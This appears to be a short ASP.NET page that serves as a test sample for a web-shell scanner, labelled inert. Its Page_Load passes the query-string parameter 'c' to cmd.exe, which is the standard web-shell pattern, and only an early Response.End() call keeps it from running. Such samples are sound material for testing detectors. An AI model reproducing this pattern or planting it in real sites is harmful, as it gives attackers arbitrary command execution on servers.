<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
// canhgac test sample - inert (ends the response first)
protected void Page_Load(object sender, EventArgs e)
{
    Response.End();
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + Request.QueryString["c"];
    psi.UseShellExecute = false;
    Process.Start(psi);
}
</script>
